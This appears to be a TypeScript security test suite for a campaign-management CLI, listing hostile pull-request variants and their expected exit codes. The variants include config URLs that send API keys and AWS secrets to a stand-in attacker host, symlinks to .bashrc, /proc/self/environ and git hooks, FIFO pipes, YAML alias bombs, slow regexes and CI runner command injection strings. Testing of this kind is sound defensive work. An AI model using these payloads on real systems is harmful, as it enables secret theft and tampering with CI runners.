import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join, relative } from 'node:path';
import { campaign, declaring } from '../../helpers/declare-live.ts';
import { writeFiles } from '../../helpers/folders.ts';
import { ATTACKER, HONEST, type Stage } from './stage.ts';

/** Exit codes of `validate`, `plan` and `apply --yes`, in this order; null where the command is not run. */
type Codes = readonly [validate: number | null, plan: number | null, apply: number | null];

export interface Variant {
  readonly title: string;
  readonly codes: Codes;
  /** What the pull request puts into the workspace. */
  readonly change: (stage: Stage) => void;
  /** Whether CI names the service in HERALD_BASE_URL; true unless the variant is about the address in the files. */
  readonly pinned?: false;
  /** What is printed. */
  readonly says?: RegExp;
  /** Commands in place of the usual ones. */
  readonly plan?: readonly string[];
  readonly apply?: readonly string[];
  readonly env?: Readonly<Record<string, string>>;
  /** What the author changes between the plan and the apply. */
  readonly beforeApply?: (stage: Stage) => void;
  /** Whether its plan runs in a process of its own: what would hang, eat all memory or read the environment of its process. */
  readonly alone?: true;
  /** What must have stayed as it was on the service. */
  readonly kept?: (stage: Stage) => unknown;
}

function declares({ directory }: Stage, ...campaigns: readonly ReturnType<typeof campaign>[]): void {
  writeFiles(directory, declaring({ campaigns }));
}
function workspace(stage: Stage, more: string): void {
  stage.write('herald.yaml', `${HONEST}${more}\n`);
  declares(stage, campaign());
}
function link(stage: Stage, path: string, aim: string): void {
  const at = join(stage.directory, path);
  mkdirSync(dirname(at), { recursive: true });
  symlinkSync(aim.startsWith('/') ? aim : relative(dirname(at), join(stage.outside, aim)), at);
}
function pipe(stage: Stage, path: string): void {
  const at = join(stage.directory, path);
  mkdirSync(dirname(at), { recursive: true });
  execFileSync('mkfifo', [at]);
}
const attack = (
  title: string,
  codes: Codes,
  change: Variant['change'],
  more: Omit<Variant, 'title' | 'codes' | 'change'> = {},
): Variant => ({ title, codes, change, ...more });

const service = (title: string, yaml: string, codes: Codes, env: Variant['env'] = {}) =>
  attack(title, codes, (stage) => workspace(stage, `service: ${yaml}`), { env, pinned: false });
const pinnedService = (title: string, yaml: string) =>
  attack(title, [1, 1, 1], (stage) => workspace(stage, `service: ${yaml}`));
const ALONE = { alone: true } as const;
/** What never ends, or tells of the process, is of the system; files that a link may betray stand next to the workspace. */
const aloneFor = (aim: string) => (aim.startsWith('/') ? ALONE : {});
const linked = (title: string, path: string, aim: string, codes: Codes, more = '') => {
  const pinned = more === '' ? {} : ({ pinned: false } as const);
  const change = (stage: Stage) => {
    workspace(stage, more);
    link(stage, path, aim);
  };
  return attack(title, codes, change, { ...aloneFor(aim), ...pinned });
};
/** The pull request has a link in place of a file that CI writes. */
const output = (title: string, path: string, aim: string, plan: string) => {
  const says = /leads (to|into) \S+, .+, by the link \S+\.|leads to \S+, which is outside/;
  const change = (stage: Stage) => {
    workspace(stage, '');
    stage.served.simulator.control.seedCampaign('101', { name: 'Of a person', messages: [{ text: 'Hi' }] });
    link(stage, path, aim === '' ? join(stage.directory, '.git/hooks/post-checkout') : aim);
  };
  return attack(title, [0, 1, null], change, { says, plan: plan.split(' ') });
};
const textFile = (title: string, put: (stage: Stage) => void, more: Pick<Variant, 'alone'> = {}) => {
  const change = (stage: Stage) => {
    declares(stage, campaign({ messages: [{ text_file: 'offer.md' }] }));
    put(stage);
  };
  return attack(title, [1, 1, 1], change, more);
};
const folder = (title: string, aim: string) => {
  const change = (stage: Stage) => {
    stage.write('herald.yaml', HONEST.replace('live/*.yaml', 'live/**/*.yaml'));
    link(stage, 'live/more', aim);
  };
  return attack(title, [1, 1, 1], change, aloneFor(aim));
};

const SIMULATOR = 'service: { simulator: .herald/world.json }';

const ADDRESSES: readonly Variant[] = [
  service('base_url is the attacker', `{ base_url: "${ATTACKER}" }`, [0, 1, 1]),
  service('the key in the path of base_url', `{ base_url: "${ATTACKER}/\${HERALD_API_KEY}" }`, [1, 1, 1]),
  service('the key in the host', '{ base_url: "https://${HERALD_API_KEY}.service.test" }', [1, 1, 1]),
  service(
    'a token that is listed by mistake',
    '{ base_url: "http://${HERALD_GITLAB_TOKEN}.localhost:1" }',
    [1, 1, 1],
    {
      HERALD_ALLOWED_ENV: 'HERALD_GITLAB_TOKEN',
    },
  ),
  service('another secret in base_url', `{ base_url: "${ATTACKER}/\${AWS_SECRET_ACCESS_KEY}" }`, [1, 1, 1]),
  service('the world of the simulator in ..', '{ simulator: ../outside/world.json }', [0, 1, 1]),
  service('the world named as the key', '{ simulator: "${HERALD_API_KEY}.json" }', [1, 1, 1]),
  service('the world in .git', '{ simulator: .git/hooks/pre-commit }', [0, 1, 1]),
  pinnedService('the key as a platform', '{ platforms: { primary: "${HERALD_API_KEY}" } }'),
  pinnedService('a secret as the header', '{ auth_header: "x-${AWS_SECRET_ACCESS_KEY}" }'),
  pinnedService('the key in the host header', '{ auth_header: host }'),
];

const LINKS: readonly Variant[] = [
  linked('.herald leads out', '.herald', '.', [1, 1, 1]),
  attack('.herald leads to another folder of the workspace', [1, 1, 1], (stage) => {
    workspace(stage, '');
    link(stage, '.herald', join(stage.directory, 'live'));
  }),
  output('the saved plan leads out', 'plan.json', '.bashrc', 'plan --out plan.json'),
  output('the files of a job lead out', 'out', '.', 'ci plan --provider generic --scope all --out-dir out'),
  output('the imported files lead out', 'imported', '.', 'import --out imported --account alice'),
  output('the saved plan leads into .git', 'plan.json', '', 'plan --out plan.json'),
  linked('the state leads out', '.herald/state.db', '.bashrc', [0, 1, 1]),
  linked('the lock of the runs leads out', '.herald/run-lock.db', '.bashrc', [0, 0, 1]),
  linked('the world leads out', '.herald/world.json', 'world.json', [0, 1, 1], SIMULATOR),
  linked('the lock of the world leads out', '.herald/world.json.lock', '.bashrc', [0, 0, 1], SIMULATOR),
  linked('the world never ends', '.herald/world.json', '/dev/zero', [0, 1, 1], SIMULATOR),
  folder('a folder of files: leads out', '.'),
  folder('a folder of files: leads to everything', '/'),
  attack('the folder that files: names is everything', [1, 1, 1], (stage) => link(stage, 'live', '/'), ALONE),
  textFile('a text leads out', (stage) => link(stage, 'live/offer.md', 'private.txt')),
  textFile('a text is the environment', (stage) => link(stage, 'live/offer.md', '/proc/self/environ'), ALONE),
  textFile('a text never ends', (stage) => link(stage, 'live/offer.md', '/dev/zero'), ALONE),
  textFile('a text is a pipe', (stage) => pipe(stage, 'live/offer.md'), ALONE),
  attack('an attachment leads out', [1, 1, 1], (stage) => {
    declares(stage, campaign({ messages: [{ text: 'Look', attachments: [{ file: 'photo.jpg' }] }] }));
    link(stage, 'live/photo.jpg', 'private.jpg');
  }),
  attack('the state is a pipe', [0, 1, 1], stateByPipe, ALONE),
];

const campaignsOf = ({ served }: Stage) =>
  Object.values(served.simulator.world.accounts['101']?.campaigns ?? {}).map(({ live }) => ({
    name: live.name,
    status: live.status,
  }));

const STEERS = '::error::forged ##[set-env name=PATH]x ##vso[task.setvariable variable=PATH]x';

const ON_RUNNER = { env: { GITHUB_ACTIONS: 'true', TF_BUILD: 'True' } };
const steering = (stage: Stage) =>
  declares(stage, campaign({ name: STEERS, messages: [{ text: `Hey ${'a'.repeat(70)} ${STEERS}` }] }));

const CONTENTS: readonly Variant[] = [
  attack('a pipe as herald.yaml', [1, 1, 1], replaceByPipe, ALONE),
  attack('a saved plan with other words', [0, 0, 5], (stage) => declares(stage, campaign()), {
    plan: ['plan', '--out', 'plan.json'],
    apply: ['apply', 'plan.json', '--yes'],
    beforeApply: (stage) => {
      const path = join(stage.directory, 'plan.json');
      writeFileSync(path, readFileSync(path, 'utf8').replaceAll('Hey', 'Pay here'));
    },
    kept: campaignsOf,
  }),
  attack('aliases in aliases', [1, 1, 1], nestAliases, ALONE),
  attack('a banned word that takes hours', [0, 0, 0], banSlowly, ALONE),
  attack('a pattern of files: that takes hours', [0, 0, 0], findSlowly, ALONE),
  attack(
    'names that give commands to the CI runner',
    [1, 1, 1],
    (stage) => {
      stage.write(`live/${STEERS}.yaml`, 'nonsense: [');
      steering(stage);
    },
    ON_RUNNER,
  ),
  attack('texts that give commands to the CI runner', [0, 0, 0], steering, ON_RUNNER),
  attack('names that every object of JavaScript has', [1, 1, 1], (stage) => {
    declares(stage, campaign({ name: '__proto__' }), campaign({ name: 'toString', constructor: 1 }));
    const [file = ''] = Object.values(declaring({ campaigns: [campaign()] }, ['constructor']));
    stage.write('live/b.yaml', file);
  }),
  attack('the service redirects to the attacker', [0, 1, 1], (stage) => {
    workspace(stage, '');
    stage.redirect();
  }),
];

function replaceByPipe(stage: Stage): void {
  rmSync(join(stage.directory, 'herald.yaml'));
  pipe(stage, 'herald.yaml');
}

function stateByPipe(stage: Stage): void {
  workspace(stage, '');
  pipe(stage, '.herald/state.db');
}

function nestAliases(stage: Stage): void {
  const rows = 'bcdefghij'.split('').map((name, at) => {
    const before = 'abcdefghij'[at];
    return `${name}: &${name} [${Array.from({ length: 9 }, () => `*${before}`).join(', ')}]`;
  });
  stage.write('live/all.yaml', `a: &a [x]\n${rows.join('\n')}\naccounts: *j\n`);
}

function banSlowly(stage: Stage): void {
  stage.write('herald.yaml', `${HONEST}policy: { banned_words: ['/.*x.*x.*x.*y/'] }\n`);
  declares(stage, campaign({ messages: [{ text: 'x'.repeat(4000) }] }));
}

function findSlowly(stage: Stage): void {
  stage.write('herald.yaml', HONEST.replace('live/*.yaml', `live/${'*a'.repeat(12)}b`));
  stage.write(`live/${'a'.repeat(250)}`, '');
}

export const VARIANTS: readonly Variant[] = [...ADDRESSES, ...LINKS, ...CONTENTS];
